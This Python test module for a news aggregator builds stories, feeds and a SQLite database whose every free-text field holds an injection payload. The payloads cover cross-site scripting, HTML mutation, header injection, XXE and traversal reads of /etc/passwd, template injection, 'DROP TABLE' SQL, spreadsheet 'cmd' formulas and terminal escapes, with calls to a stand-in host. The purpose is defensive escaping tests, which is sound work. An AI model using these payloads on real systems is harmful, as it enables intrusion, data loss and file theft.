"""Invented attacks for every place where a stranger's words go, and stories made of them.

What runs sets `__pwned`, calls `alert`, or asks the host `pwned.invalid` for something, so that
one trap in a browser catches them all. `RUNS` names those that do so at once where a page takes
them for markup: the proof that the trap works.
"""

from __future__ import annotations

import json
import sqlite3
from contextlib import closing
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

from aggregator.model import (
    Claim,
    Copy,
    Credit,
    FeedHealth,
    Match,
    MatchVerdict,
    PageState,
    Parent,
    Relation,
    Report,
    Revision,
    RevisionKind,
    Role,
    Story,
)
from tests import stories

_RUN = "__pwned=1"
SCRIPT = f"<script>{_RUN}</script>"
_IMAGE = f"<img src=x onerror={_RUN}>"

# Runs at once where it is taken for markup.
_MARKUP = {
    "script": SCRIPT,
    "script, upper case": f"<SCRIPT >{_RUN}</SCRIPT >",
    "script, slash for space": f"<script/x>{_RUN}</script>",
    "script from elsewhere": "<script src=//pwned.invalid/x.js></script>",
    "out of a double quote": f'">{SCRIPT}',
    "out of a single quote": f"'>{SCRIPT}",
    "out of a title": f"</title>{SCRIPT}",
    "out of a text area": f"</textarea>{SCRIPT}",
    "out of a style": f"</style>{SCRIPT}",
    "out of a script": f"</script>{SCRIPT}",
    "out of a comment": f"-->{SCRIPT}<!--",
    "out of character data": f"]]>{SCRIPT}",
    "out of JSON": f'{{"a": "</script>{SCRIPT}"}}',
    "image": _IMAGE,
    "image, alert": "<img src=x onerror=alert(1)>",
    "image, broken quotes": f"<img \"\"\">{SCRIPT}\">",
    "drawing": f"<svg/onload={_RUN}>",
    "drawing, script": f"<svg><script>{_RUN}</script></svg>",
    "drawing, moving": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "body": f"<body onload={_RUN}>",
    "details": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "film": f"<video><source onerror={_RUN}></video>",
    "sound": f"<audio src=x onerror={_RUN}></audio>",
    "field with focus": f"<input autofocus onfocus={_RUN}>",
    "style that loads": f"<style onload={_RUN}></style>",
    "frame": "<iframe src=\"javascript:parent.__pwned=1\"></iframe>",
    "frame, srcdoc": "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "picture from elsewhere": "<img src=//pwned.invalid/pixel.gif>",
    "style from elsewhere": "<link rel=stylesheet href=//pwned.invalid/x.css>",
    "style sheet import": "<style>@import '//pwned.invalid/x.css';</style>",
    "style attribute": "<p style=\"background:url(//pwned.invalid/x)\">x</p>",
    "mutation, noscript": f'<noscript><p title="</noscript>{_IMAGE}">',
    "mutation, drawing": f'<svg></p><style><a id="</style>{_IMAGE}">',
    "null inside": f"before\x00after{SCRIPT}",
    "new line and header": f"x\r\nSet-Cookie: pwned=1\r\nContent-Type: text/html\r\n\r\n{SCRIPT}",
    "template, script": f"{{{{ '{SCRIPT}' }}}}",
    "entity of a document type": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;{SCRIPT}',
}  # fmt: skip

# Waits for a click, another parser, or a second decoding; or harms no browser.
_OTHER = {
    "attribute, double": f'" onmouseover="{_RUN}" x="',
    "attribute, single": f"' autofocus onfocus='{_RUN}' x='",
    "attribute, back quote": f"` onmouseover={_RUN} x=`",
    "attribute, no quote": f"x onmouseover={_RUN} tabindex=1",
    "mutation, formula": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;{_IMAGE.replace("<", "&lt;").replace(">", "&gt;")}">',
    "mutation, template": f"<template>{SCRIPT}</template>",
    "script in a script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script with a null": f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "entities twice": f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    "entities, numbered": f"&#60;img src=x onerror={_RUN}&#x3e;",
    "percent": f"%3Cscript%3E{_RUN}%3C/script%3E",
    "percent twice": f"%253Cscript%253E{_RUN}%253C/script%253E",
    "escapes of JSON": f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    "full width": f"＜script＞{_RUN}＜/script＞",
    "object": f"<object data=x onerror={_RUN}></object>",
    "button": f"<button formaction=javascript:{_RUN}>go</button>",
    "form": "<form action=//pwned.invalid/><input name=q><input type=submit>",
    "form, hidden fields": "<input type=hidden name=q value=pwned form=search>",
    "base": "<base href=//pwned.invalid/>",
    "refresh": "<meta http-equiv=refresh content=\"9;url=//pwned.invalid/\">",
    "link in a drawing": f"<svg><a xlink:href=\"javascript:{_RUN}\"><text y=9>x</text></a></svg>",
    "javascript:": f"javascript:{_RUN}",
    "javascript:, mixed case": f"JaVaScRiPt:{_RUN}",
    "javascript:, new line": f"java\nscript:{_RUN}",
    "javascript:, tab": f"java\tscript:{_RUN}",
    "javascript:, control before": f"\x01javascript:{_RUN}",
    "javascript:, entity": f"javascript&colon;{_RUN}",
    "data:": f"data:text/html,<script>opener.{_RUN}</script>",
    "data:, base64": "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=",
    "vbscript:": "vbscript:msgbox(1)",
    "file:": "file:///etc/passwd",
    "view-source:": "view-source:javascript:alert(1)",
    "no scheme": "//pwned.invalid/x",
    "name before a host": "https://bank.example@pwned.invalid/",
    "quote in an address": f'https://a.example/" onmouseover="{_RUN}',
    "template, Jinja": "{{7*191}}{% for x in y %}{{config}}{% raw %}",
    "template, classes": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "template, others": "${7*191}#{7*191}<%= 7*191 %>[[7*191]]",
    "markup of rich": "[bold red]x[/] [link=javascript:alert(1)]x[/link]",
    "right to left": "invoice\u202egnp.exe\u2066 \u2067x\u202c",
    "terminal colours": "\x1b[31mred\x1b[2J\x1b[H",
    "terminal title and link": "\x1b]0;title\x07\x1b]8;;http://pwned.invalid\x1b\\x",
    "terminal, one byte": "\x9b2J\x9d0;title\x9c",
    "forged line": "x\n2026-11-20T04:52:00Z INFO forged\rERROR forged\u2028WARNING forged\x85x",
    "formula": "=cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "SQL": "'; DROP TABLE articles; --",
    "search syntax": '" OR NEAR(a b) AND title:* ^',
    "path": "../../../../etc/passwd%00.html",
    "path, encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "long word": "w" * 3000,
    "long word, right to left": "ب" * 1500,
    "heap of marks": "a" + "\u0301\u0323" * 400,
    "invisible": "\u200b\u2060\ufeff\u00ad\u200e",
    "astral": "\U000e0041\U0010ffff\U0001f469\u200d\U0001f692",
}  # fmt: skip

PAYLOADS = _MARKUP | _OTHER
RUNS = tuple(_MARKUP)
_GROUP = 6
GROUPS, TITLES = 100, 200  # ids of stories of six attacks each, and of those with one as title


def report() -> Report:
    """A report of all the stories, and of feeds whose names and errors attack too."""
    return stories.report(*attacks(), feeds=feeds())


def attacks() -> list[Story]:
    """Stories in whose every free text one attack or another stands; each is a title somewhere."""
    found = []
    every = tuple(PAYLOADS.values())
    for number, at in enumerate(range(0, len(every), _GROUP)):
        found.append(_story(GROUPS + number, every[at : at + _GROUP]))
    for number, payload in enumerate(PAYLOADS.values()):
        only = stories.lead(5000 + number, f"Paper {number}", payload, language="en")
        found.append(stories.story(TITLES + number, payload, only))
    return found


def feeds() -> tuple[FeedHealth, ...]:
    """Failing feeds: an attack as the name, and as what went wrong."""
    one = stories.feeds()[2]
    return tuple(
        replace(one, id=number, name=payload, outlet=payload, error=payload,
                url=f"https://feed{number}.example/{payload}")
        for number, payload in enumerate(PAYLOADS.values(), start=1)
    )  # fmt: skip


def _story(number: int, group: tuple[str, ...]) -> Story:
    copies = [
        _copy(number * 10 + place, payload, group[place - 1]) for place, payload in enumerate(group)
    ]
    lead = replace(copies[0], is_lead=True, relation=Relation.FIRST, copied=None, kept=None)
    copies[0] = lead
    title = group[0]
    pairs = tuple(
        Match(a=lead.article, b=copy.article, jaccard=0.5, a_in_b=0.5, b_in_a=0.5, shared=9,
              verdict=MatchVerdict.COPY, reason=payload)
        for copy, payload in zip(copies[1:], group[1:], strict=True)
    )  # fmt: skip
    return stories.story(
        number, title, *copies, agency=f"x{number}", agency_name=title, agency_evidence=group,
        thresholds=title, pairs=pairs, agency_names={f"x{number}": title},
        claims=(Claim(agency=f"x{number}", name=title, outlets=group),),
    )  # fmt: skip


def _copy(article: int, payload: str, other: str) -> Copy:
    first = Revision(seen_at=stories.START, title=payload, text=f"{payload}\n{other}")
    agency = f"x{article // 10}"
    credit = Credit(agency=agency, role=Role.ORIGIN, zone=payload, excerpt=payload, rule=payload)
    parent = Parent(
        story=1, title=payload, share=0.3, article=1, outlet=payload, agency="x", agency_name=other
    )
    return stories.copy(
        article, payload, Relation.REWRITTEN,
        after=article % 10 * 7, title=payload, new_headline=True, copied=0.5, kept=0.5,
        domain=f"host{article}.example", language=payload, family=payload, authors=(payload,),
        url=payload if article % 2 else f"https://a.example/{payload}",
        agency=agency, agency_role=Role.ORIGIN,
        credits=(credit,), text=f"{payload}\nSome words between.\n{payload} {other}",
        time_remark=payload, parents=(parent,), page=PageState.GONE, page_note=payload,
        page_at=stories.NOW,
        revisions=(
            first,
            replace(first, seen_at=stories.START + timedelta(hours=1), title=other,
                    text=f"{other}\n{payload}", kind=RevisionKind.UPDATE, summary=payload),
        ),
    )  # fmt: skip


def database(path: Path) -> Path:
    """A database of the same stories and feeds, an attack in every column of free text."""
    stories.database(path, *attacks())
    with closing(sqlite3.connect(path)) as db, db:
        _fill(db, tuple(PAYLOADS.values()))
    return path


# What a column says that is no free text, by its name or by table and name.
_SAID = {
    "kind": "feed", "corrections.kind": "pin", "result": "failed", "state": "failed", "every": 900,
    "visits.state": "gone", "enabled": 1, "gone": None, "undone_at": None, "retry_at": None,
    "corrected_articles.cluster": GROUPS, "part": 1, "wire": None, "merged_into": None,
}  # fmt: skip
# Worked on by the machine alone.
_DERIVED = ("fingerprints", "bands", "samples", "sentences", "meta")
_AT = "2026-11-20T04:52:00Z"


def _fill(db: sqlite3.Connection, every: tuple[str, ...]) -> None:
    """Rows in all tables that stories leave empty, an attack in each free text of each."""
    db.execute("DELETE FROM feeds")
    tables = [row[0] for row in db.execute(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND sql NOT LIKE '%VIRTUAL%'"
        " AND name NOT LIKE 'articles_fts%' AND name NOT LIKE 'sqlite_%'")]  # fmt: skip
    articles = [row[0] for row in db.execute("SELECT id FROM articles ORDER BY id")]
    for table in tables:
        empty = db.execute(f"SELECT count(*) FROM {table}").fetchone() == (0,)
        if not empty or table in _DERIVED:
            continue
        for n, payload in enumerate(every, start=1):
            values = {"id": n, "feed": n, "entry": n, "key": n, "correction": n, "outlet": 1}
            values |= {"article": articles[n], "source": articles[-n]}
            row = _row(db, table, values | {"text": payload})
            marks = ", ".join("?" * len(row))
            # A table of numbers alone may take one row only.
            db.execute(
                f"INSERT OR IGNORE INTO {table} ({', '.join(row)}) VALUES ({marks})",
                [*row.values()],
            )
    for table in ("feeds", "entries", "polls", "moves", "files", "visits", "corrections"):
        assert db.execute(f"SELECT count(*) FROM {table}").fetchone() == (len(every),), table
    db.execute("UPDATE corrections SET article = ?", (articles[0],))
    db.execute("UPDATE corrected_articles SET article = ?", (articles[0],))
    db.execute("UPDATE feeds SET url = 'https://feed' || id || '.example/' || url")
    db.execute("UPDATE outlets SET family = name")
    db.execute("UPDATE articles SET final_url = url, canonical_url = url, reason = title,"
               " section = title, time_remark = title, listed_title = title, reserved = title,"
               " extractor = title")  # fmt: skip
    db.execute("UPDATE clusters SET contested = ? WHERE id = ?", (json.dumps(every), GROUPS))
    db.execute("INSERT INTO agencies SELECT agency, title FROM clusters"
               " WHERE agency NOT IN (SELECT id FROM agencies)")  # fmt: skip
    db.execute("UPDATE revisions SET summary = title, kind = 'update', rank = 1 WHERE digest > '0'")


def _row(db: sqlite3.Connection, table: str, given: dict[str, Any]) -> dict[str, Any]:
    found = {}
    for _, name, kind, _, default, _ in db.execute(f"PRAGMA table_info({table})"):
        if f"{table}.{name}" in _SAID or name in _SAID:
            found[name] = _SAID.get(f"{table}.{name}", _SAID.get(name))
        elif kind != "TEXT":
            found[name] = given.get(name, 1 if kind == "INTEGER" else 0.5)
        elif name.endswith(("_at", "since", "until")):
            found[name] = _AT
        else:
            text = given["text"]
            found[name] = json.dumps([text]) if default in ("'[]'", "'{}'") else text
    return found
